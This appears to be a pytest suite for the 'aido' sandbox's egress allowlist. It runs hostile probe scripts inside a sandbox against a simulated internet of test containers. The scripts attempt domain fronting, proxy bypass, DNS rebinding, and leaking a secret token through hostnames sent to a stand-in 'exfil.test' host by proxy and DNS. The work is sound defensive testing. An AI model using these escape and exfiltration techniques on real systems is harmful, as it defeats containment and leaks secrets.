"""The egress allowlist end to end, as a user runs it: `aido sandbox up` with an allowlist,
`aido run` of a hostile task that tries every way out, against a test "internet" of
containers on a network this test creates (tests/helpers/internet.py). Nothing here
reaches any address outside those containers.
"""

from __future__ import annotations

import json
import signal
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.helpers.cli import Aido, aido_argv, aido_env, wait_for
from tests.helpers.files import write
from tests.helpers.internet import Internet, internet
from tests.helpers.sandbox import record, run_dir, sandbox_up, summary

pytestmark = pytest.mark.usefixtures("engine")

SECRET = "s3cr3t-token-42"

# Every way out a hostile task might try, at once (threads: the blocked ones wait for
# their timeouts together). Prints one JSON object: probe -> what the task saw.
PROBE = r"""
import concurrent.futures, json, os, socket, ssl, sys, urllib.error, urllib.request
allowed_ip, literal_ip, dns_ip, secret = sys.argv[1:5]
insecure = ssl._create_unverified_context()

def fetch(url, proxies=True):
    handlers = [] if proxies else [urllib.request.ProxyHandler({})]
    handlers.append(urllib.request.HTTPSHandler(context=insecure))
    opener = urllib.request.build_opener(*handlers)
    try:
        with opener.open(url, timeout=8) as reply:
            return f"{reply.status} {reply.read().decode().strip()}"
    except urllib.error.HTTPError as exc:
        return f"HTTPError {exc.code}"
    except Exception as exc:
        return f"{type(exc).__name__}: {exc}"

def tcp(host, port):
    try:
        socket.create_connection((host, port), timeout=5).close()
        return "connected"
    except Exception as exc:
        return f"{type(exc).__name__}: {exc}"

def udp(host, port, payload):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(4)
    try:
        sock.sendto(payload, (host, port))
        return "reply " + repr(sock.recvfrom(512)[0][:20])
    except Exception as exc:
        return f"{type(exc).__name__}: {exc}"

def dns_query(name):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00\x00\x01\x00\x01"

def resolve(name):
    try:
        return "resolved " + socket.getaddrinfo(name, 80)[0][4][0]
    except Exception as exc:
        return f"{type(exc).__name__}: {exc}"

def ipv6():
    results = []
    try:
        with open("/proc/net/if_inet6") as f:
            results.append("addresses: " + (f.read().strip() or "none"))
    except OSError as exc:
        results.append(f"if_inet6: {exc}")
    for target in (("fe80::1%eth0", 80), ("fe80::42:acff:fe11:1%eth0", 80)):
        try:
            sock = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
            sock.settimeout(4)
            sock.connect(target)
            results.append("connected")
        except Exception as exc:
            results.append(f"{type(exc).__name__}")
    return results

def fronting(sni):
    # Domain fronting: a tunnel to an allowed name, a TLS handshake naming another.
    host, port = os.environ["HTTPS_PROXY"].rsplit("/", 1)[-1].split(":")
    try:
        sock = socket.create_connection((host, int(port)), timeout=8)
        sock.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\nHost: allowed.test:443\r\n\r\n")
        head = b""
        while b"\r\n\r\n" not in head and (chunk := sock.recv(1)):
            head += chunk
        tls = insecure.wrap_socket(sock, server_hostname=sni)
        tls.sendall(f"GET / HTTP/1.0\r\nHost: {sni}\r\n\r\n".encode())
        return head.split(b"\r\n")[0].decode() + " | " + tls.recv(4096).decode().split("\r\n")[0]
    except Exception as exc:
        return f"{type(exc).__name__}: {exc}"

probes = {
    "domain_fronting": lambda: fronting("denied.test"),
    "same_name": lambda: fronting("allowed.test"),
    "allowed_http": lambda: fetch("http://allowed.test/"),
    "allowed_https": lambda: fetch("https://allowed.test/"),
    "wildcard": lambda: fetch("http://files.wild.test/"),
    "port_entry": lambda: fetch("http://api.allowed.test:8443/"),
    "port_entry_other_port": lambda: fetch("https://api.allowed.test/"),
    "allowed_other_port": lambda: fetch("http://allowed.test:8443/"),
    "denied_http": lambda: fetch("http://denied.test/"),
    "denied_https": lambda: fetch("https://denied.test/"),
    "ip_literal_http": lambda: fetch(f"http://{literal_ip}/"),
    "ip_literal_https": lambda: fetch(f"https://{literal_ip}/"),
    "ip_literal_decimal": lambda: fetch("http://%d/" % int.from_bytes(socket.inet_aton(literal_ip), "big")),
    "ipv6_literal": lambda: fetch("http://[::1]/"),
    "metadata_like": lambda: fetch("http://meta.wild.test/"),
    "exfil_by_proxy": lambda: fetch(f"http://leak1-{secret}.exfil.test/"),
    "exfil_by_resolver": lambda: resolve(f"leak2-{secret}.exfil.test"),
    "exfil_by_direct_dns": lambda: udp(dns_ip, 53, dns_query(f"leak3-{secret}.exfil.test")),
    "bypass_by_name": lambda: fetch("http://allowed.test/", proxies=False),
    "bypass_by_address": lambda: fetch(f"http://{allowed_ip}/", proxies=False),
    "raw_tcp": lambda: tcp(allowed_ip, 9000),
    "raw_udp": lambda: udp(allowed_ip, 9001, b"hello"),
    "ipv6": ipv6,
}
with concurrent.futures.ThreadPoolExecutor(len(probes)) as pool:
    futures = {name: pool.submit(probe) for name, probe in probes.items()}
    print(json.dumps({name: future.result() for name, future in futures.items()}))
"""


def allowlist_yaml(net: Internet) -> str:
    # The allowed origin lives at a private address (a Docker network's): listing it is the
    # explicit opt-in that lets named requests reach it; everything else private stays blocked.
    return (
        "runtime: python:3.11\n"
        "permissions:\n"
        "  network:\n"
        "    allow:\n"
        "      - allowed.test\n"
        '      - "*.wild.test"\n'
        "      - api.allowed.test:8443\n"
        f"      - {net.allowed_ip}/32\n"
        "    allow_ip_ranges: true\n"
    )


@pytest.fixture(scope="module")
def net(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Internet]:
    with internet(tmp_path_factory.mktemp("internet")) as made:
        yield made


def network_log(project: Path, sandbox_id: str) -> list[dict[str, Any]]:
    text = (run_dir(project, sandbox_id) / "network.jsonl").read_text()
    return [json.loads(line) for line in text.splitlines()]


def egress_objects(sandbox_id: str) -> tuple[list[str], list[str]]:
    """The sandbox's proxy containers and egress networks, straight from the engine."""
    label = f"label=aido.sandbox={sandbox_id}"
    containers = subprocess.run(
        ["docker", "ps", "-aq", "--filter", label, "--filter", "label=aido.egress"],
        capture_output=True, text=True, check=True,
    ).stdout.split()  # fmt: skip
    networks = subprocess.run(
        ["docker", "network", "ls", "-q", "--filter", label], capture_output=True, text=True, check=True
    ).stdout.split()
    return containers, networks


def test_a_hostile_task_reaches_only_the_allowlist(aido: Aido, project: Path, net: Internet) -> None:
    write(project / "sandbox.yaml", allowlist_yaml(net))
    sandbox_id = sandbox_up(aido, "--yes", env=net.env)
    write(project / "probe.py", PROBE)
    started = time.monotonic()
    ran = aido("run", "probe.py", "--", net.allowed_ip, net.literal_ip, net.dns_ip, SECRET, env=net.env)
    assert ran.code == 0, ran.stderr
    seen: dict[str, Any] = json.loads(ran.stdout)
    took = time.monotonic() - started

    # What the allowlist lets through, over HTTP and through an HTTPS tunnel.
    assert seen["allowed_http"] == "200 hello from allowed"
    assert seen["allowed_https"] == "200 hello from allowed"
    assert seen["wildcard"] == "200 hello from allowed"
    assert seen["port_entry"] == "200 hello from allowed"
    # Everything else is refused by the proxy (403) ...
    for probe in ("denied_http", "ip_literal_http", "ip_literal_decimal", "ipv6_literal", "metadata_like"):
        assert seen[probe] == "HTTPError 403", (probe, seen[probe])
    assert seen["exfil_by_proxy"] == "HTTPError 403"
    assert seen["allowed_other_port"] == "HTTPError 403"
    # A refused CONNECT is closed unanswered (Squid would otherwise answer it inside TLS).
    for probe in ("denied_https", "ip_literal_https", "port_entry_other_port"):
        assert "Remote end closed connection without response" in seen[probe], (probe, seen[probe])
    # A tunnel to an allowed name whose TLS ClientHello names another (domain fronting) is
    # terminated once the proxy has read the SNI; naming the tunnel's own host works.
    assert seen["same_name"] == "HTTP/1.1 200 Connection established | HTTP/1.0 200 OK", seen["same_name"]
    assert seen["domain_fronting"].startswith(
        ("SSLZeroReturnError", "SSLEOFError", "ConnectionResetError")
    ), seen["domain_fronting"]
    # ... or has nowhere to go: no resolver, no route, no IPv6.
    assert seen["exfil_by_resolver"].startswith("gaierror"), seen["exfil_by_resolver"]
    assert seen["bypass_by_name"].startswith("URLError"), seen["bypass_by_name"]
    for probe in ("exfil_by_direct_dns", "raw_udp", "raw_tcp", "bypass_by_address"):
        assert "reply" not in seen[probe] and "200" not in seen[probe] and seen[probe] != "connected", (
            probe,
            seen[probe],
        )
    assert seen["ipv6"][0] == "addresses: none"
    assert "connected" not in seen["ipv6"]

    # The other side agrees: the origins saw only the proxy's requests, the DNS server never
    # saw the names the task tried to smuggle out, the denied hosts saw nothing at all.
    hits = net.hits("allowed")
    assert hits, "the allowed origin saw nothing"
    assert not [h for h in hits if not h.startswith("http ")], hits  # no raw TCP, no UDP
    proxy_side = {h.split()[1] for h in hits}
    assert len(proxy_side) == 1 and net.allowed_ip not in proxy_side  # one peer: the proxy
    assert net.hits("denied") == []
    assert net.hits("literal") == []
    queries = net.queries()
    assert not [q for q in queries if SECRET in q], queries
    assert "allowed.test" in queries

    # The run's evidence: every request the proxy decided, with the decision.
    facts = summary(project, sandbox_id)
    network = facts["network"]
    assert network["mode"] == "allowlist"
    log = [
        json.loads(line) for line in (run_dir(project, sandbox_id) / "network.jsonl").read_text().splitlines()
    ]
    decided = {(e["host"], e["port"], e["decision"]) for e in log}
    assert {
        ("allowed.test", 80, "allowed"),
        ("allowed.test", 443, "allowed"),
        ("files.wild.test", 80, "allowed"),
        ("api.allowed.test", 8443, "allowed"),
    } <= decided
    assert ("denied.test", 80, "denied") in decided
    assert ("denied.test", 443, "denied") in decided
    assert (net.literal_ip, 80, "denied") in decided
    assert (net.literal_ip, 443, "denied") in decided
    assert ("meta.wild.test", 80, "denied") in decided
    assert ("api.allowed.test", 443, "denied") in decided
    fronted = [
        e for e in log if e["host"] == "allowed.test" and e["port"] == 443 and e["decision"] == "denied"
    ]
    assert [(e["method"], e["port"], e["reason"]) for e in fronted] == [
        ("CONNECT", 443, "deny:sni_not_allowlisted")
    ], fronted
    assert fronted[0]["server"] is None  # the proxy never connected anywhere for it
    assert f"leak1-{SECRET}.exfil.test" in {e["host"] for e in log if e["decision"] == "denied"}
    reasons = {e["host"]: e["reason"] for e in log}
    assert reasons["meta.wild.test"] == "deny:blocked_dst"
    assert reasons["denied.test"] == "deny:not_allowlisted"
    assert reasons[net.literal_ip] == "deny:ip_literal"
    allowed = [e for e in log if e["decision"] == "allowed"]
    assert network["requests"]["allowed"] == len(allowed) == 5  # with the same-name tunnel
    assert network["requests"]["denied"] == len(log) - len(allowed)
    assert all(e["bytes_received"] > 0 for e in allowed)
    # Nothing of the run is left: no proxy, no network.
    assert egress_objects(sandbox_id) == ([], [])
    assert took < 60


def test_the_proxy_and_networks_go_with_a_killed_aido_and_with_destroy(
    aido: Aido, project: Path, net: Internet
) -> None:
    write(project / "sandbox.yaml", allowlist_yaml(net))
    sandbox_id = sandbox_up(aido, "--ttl", "1h", "--yes", env={**net.env, "AIDO_REAPER_INTERVAL": "3600"})
    write(project / "long.py", "import time\nprint('started', flush=True)\ntime.sleep(60)\n")
    process = subprocess.Popen(
        aido_argv("run", "long.py"),
        cwd=project,
        env=aido_env(net.env),
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
    )
    try:
        assert process.stdout is not None
        assert process.stdout.readline() == b"started\n"
        containers, networks = egress_objects(sandbox_id)
        assert len(containers) == 1 and len(networks) == 1
        process.send_signal(signal.SIGKILL)
        process.wait(timeout=10)
    finally:
        if process.poll() is None:
            process.kill()
    listed = aido("sandbox", "list", env=net.env)  # every command sweeps on its way
    assert listed.code == 0, listed.stderr
    wait_for(lambda: egress_objects(sandbox_id) == ([], []), timeout=20, what="the sweep")
    (ref,) = record(project, sandbox_id)["runs"]
    assert ref["status"] == "interrupted"

    # A run's proxy and network while it runs go with `sandbox destroy` too.
    process = subprocess.Popen(
        aido_argv("run", "long.py"), cwd=project, env=aido_env(net.env), stdout=subprocess.PIPE
    )
    try:
        assert process.stdout is not None
        assert process.stdout.readline() == b"started\n"
        destroyed = aido("sandbox", "destroy", sandbox_id, env=net.env)
        assert destroyed.code == 0, destroyed.stderr
        process.wait(timeout=30)
    finally:
        if process.poll() is None:
            process.kill()
    assert egress_objects(sandbox_id) == ([], [])


def test_an_open_tunnel_is_logged_when_the_task_is_killed(aido: Aido, project: Path, net: Internet) -> None:
    """A task that holds an HTTPS tunnel open until its timeout: the proxy logs the tunnel
    as it shuts down, so the network log still shows it."""
    write(project / "sandbox.yaml", allowlist_yaml(net))
    sandbox_id = sandbox_up(aido, "--yes", env=net.env)
    hold = (
        "import os, socket, time, urllib.parse\n"
        "proxy = urllib.parse.urlsplit(os.environ['HTTPS_PROXY'])\n"
        "s = socket.create_connection((proxy.hostname, proxy.port))\n"
        "s.sendall(b'CONNECT allowed.test:443 HTTP/1.1\\r\\nHost: allowed.test:443\\r\\n\\r\\n')\n"
        "print(s.recv(100).split(b'\\r\\n')[0].decode(), flush=True)\n"
        "time.sleep(60)\n"
    )
    write(project / "hold.py", hold)
    ran = aido("run", "--timeout", "3s", "hold.py", env=net.env)
    assert ran.code != 0
    assert ran.stdout.startswith("HTTP/1.1 200"), ran.stdout
    assert summary(project, sandbox_id)["stop_reason"] == "timeout"
    log = [
        json.loads(line) for line in (run_dir(project, sandbox_id) / "network.jsonl").read_text().splitlines()
    ]
    assert [(e["method"], e["host"], e["port"], e["decision"]) for e in log] == [
        ("CONNECT", "allowed.test", 443, "allowed")
    ]
    assert egress_objects(sandbox_id) == ([], [])


def test_a_sweep_removes_an_egress_network_an_aido_left_without_its_proxy(project: Path) -> None:
    """aido killed between creating a run's network and its proxy: only the network is left,
    and the reaper's sweep (containers=True) removes it; another workspace's is left alone.
    (No sandbox is made through the CLI: its background reaper would sweep first.)"""
    from aido.backends.docker.adapter import DockerBackend
    from aido.lifecycle.sweep import sweep
    from aido.manager import SandboxManager
    from aido.store.workspace import Workspace

    manager = SandboxManager(Workspace.find_or_create(project), backend=DockerBackend())
    sandbox_id = "leftnetwork1"
    names = {}
    for whose in ("ours", "other"):
        workspace = manager.store.workspace_label() if whose == "ours" else f"{project}-elsewhere"
        names[whose] = f"aido-test-left-{whose}-{time.monotonic_ns()}"
        subprocess.run(
            ["docker", "network", "create", "--internal",
             "--label", "aido.managed=true", "--label", f"aido.workspace={workspace}",
             "--label", f"aido.sandbox={sandbox_id}", "--label", "aido.run=run-007",
             "--label", "aido.egress=network", names[whose]],
            capture_output=True, check=True,
        )  # fmt: skip
    try:
        actions = sweep(manager, containers=True)
        assert {"action": "removed_network", "sandbox_id": sandbox_id, "run_id": "run-007"} in actions
        listed = subprocess.run(
            ["docker", "network", "ls", "--format", "{{.Name}}"], capture_output=True, text=True, check=True
        ).stdout.split()
        assert names["ours"] not in listed
        assert names["other"] in listed
    finally:
        for name in names.values():
            subprocess.run(["docker", "network", "rm", name], capture_output=True, check=False)


def test_a_proxy_that_dies_fails_closed_and_the_evidence_says_so(
    aido: Aido, project: Path, net: Internet
) -> None:
    """The proxy killed mid-run (as an exploit or the OOM killer might): the task's next
    request goes nowhere (the task has no other way out), and the run's record says the
    proxy stopped, with the requests it logged before."""
    write(project / "sandbox.yaml", allowlist_yaml(net))
    sandbox_id = sandbox_up(aido, "--yes", env=net.env)
    write(
        project / "twice.py",
        "import sys, time, urllib.request\n"
        "print('first', urllib.request.urlopen('http://allowed.test/', timeout=5).status, flush=True)\n"
        "sys.stdin.readline()\n"
        "try:\n"
        "    urllib.request.urlopen('http://allowed.test/', timeout=5)\n"
        "    print('second got through')\n"
        "except Exception as exc:\n"
        "    print('second', type(exc).__name__)\n",
    )
    process = subprocess.Popen(
        aido_argv("run", "-i", "twice.py"),
        cwd=project,
        env=aido_env(net.env),
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
    )
    try:
        assert process.stdout is not None and process.stdin is not None
        assert process.stdout.readline() == b"first 200\n"
        (proxy,), _ = egress_objects(sandbox_id)
        subprocess.run(["docker", "kill", proxy], capture_output=True, check=True)
        process.stdin.write(b"go\n")
        process.stdin.close()
        rest = process.stdout.read().decode()
        process.wait(timeout=30)
    finally:
        if process.poll() is None:
            process.kill()
    assert rest.startswith("second URLError"), rest
    network = summary(project, sandbox_id)["network"]
    assert "the proxy stopped during the run" in network["error"]
    assert network["requests"] == {"allowed": 1, "denied": 0, "unparsed": 0}
    assert egress_objects(sandbox_id) == ([], [])


def test_a_missing_or_older_proxy_image_refuses_the_run(aido: Aido, project: Path) -> None:
    """Never a run without its proxy, nor with a proxy build that cannot check TLS names:
    exit 125 with the fix, and nothing of the run left behind."""
    sandbox_id = sandbox_up(aido)
    write(project / "hello.py", "print('hi')\n")
    older = f"aido-test-egress-older:{time.monotonic_ns()}"
    made = subprocess.run(
        ["docker", "create", "--network", "none", "aido/egress-squid:bookworm"],
        capture_output=True,
        text=True,
    )
    assert made.returncode == 0, made.stderr
    container = made.stdout.strip()
    try:
        subprocess.run(
            ["docker", "commit", "--change", "LABEL org.aido.egress=squid-gnutls", container, older],
            capture_output=True, check=True,
        )  # fmt: skip
        for image, said in (
            ("aido-test-egress-absent:1", "is missing"),
            (older, "is build 'squid-gnutls', this aido needs"),
        ):
            ran = aido(
                "run", "--allow-host", "allowed.test", "--yes", "hello.py", env={"AIDO_EGRESS_IMAGE": image}
            )
            assert ran.code == 125, ran.stderr
            assert said in ran.stderr and "scripts/bootstrap.sh" in ran.stderr
            assert ran.stdout == ""
            assert egress_objects(sandbox_id) == ([], [])
    finally:
        subprocess.run(["docker", "rm", "-f", container], capture_output=True, check=False)
        subprocess.run(["docker", "rmi", older], capture_output=True, check=False)


# DNS rebinding: rebind.wild.test (under an allowed wildcard) answers the allowed origin's
# address, then a private one (the "literal" origin's, not opted into), in turn, each with
# TTL 0. The task asks for it over HTTP and HTTPS, then again after flooding the proxy's DNS
# cache with a thousand other names under the wildcard, and while flooding it.
REBIND = r"""
import concurrent.futures, json, ssl, sys, urllib.error, urllib.request
insecure = ssl._create_unverified_context()
opener = urllib.request.build_opener(urllib.request.HTTPSHandler(context=insecure))
def fetch(url):
    try:
        with opener.open(url, timeout=8) as reply:
            return reply.read().decode().strip()
    except urllib.error.HTTPError as exc:
        return f"HTTPError {exc.code}"
    except Exception as exc:
        return type(exc).__name__
names = iter(range(10**6))
def flood(n):
    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        return set(pool.map(fetch, [f"http://f{next(names)}.wild.test/" for _ in range(n)]))
both = ["http://rebind.wild.test/", "https://rebind.wild.test/"]
seen = [fetch(u) for u in both * 3]
flooded = flood(int(sys.argv[1]))
seen += [fetch(u) for u in both * 3]
with concurrent.futures.ThreadPoolExecutor(1) as racer:
    racing = racer.submit(lambda: [fetch(u) for u in both * 20])
    flooded |= flood(int(sys.argv[1]))
    seen += racing.result()
print(json.dumps({"rebind": seen, "flood": sorted(flooded)}))
"""


def test_dns_rebinding_never_reaches_the_private_address(aido: Aido, project: Path, net: Internet) -> None:
    write(project / "sandbox.yaml", allowlist_yaml(net))
    sandbox_id = sandbox_up(aido, "--yes", env=net.env)
    write(project / "rebind.py", REBIND)
    ran = aido("run", "rebind.py", "--", "1100", env=net.env)
    assert ran.code == 0, ran.stderr
    seen = json.loads(ran.stdout)
    assert seen["flood"] == ["hello from allowed"]
    # Every answer came from the allowed origin, or was a refusal; none from the private one.
    assert len(seen["rebind"]) == 52
    refused = {"HTTPError 403", "URLError", "RemoteDisconnected"}  # over HTTP; a CONNECT closed
    assert set(seen["rebind"]) <= {"hello from allowed", *refused}, seen["rebind"]
    assert net.hits("literal") == []
    log = [e for e in network_log(project, sandbox_id) if e["host"] == "rebind.wild.test"]
    assert len(log) == 52
    for e in log:
        allowed_here = e["server"] is not None and e["server"].rsplit(":", 1)[0] == net.allowed_ip
        assert (e["decision"], allowed_here) in {("allowed", True), ("denied", False)}, e
        assert e["decision"] == "allowed" or e["reason"] == "deny:blocked_dst", e
    # The attacker's DNS really did answer both ways: it is asked again now, twice.
    answers = {net.resolve("rebind.wild.test"), net.resolve("rebind.wild.test")}
    assert answers == {net.allowed_ip, net.literal_ip}
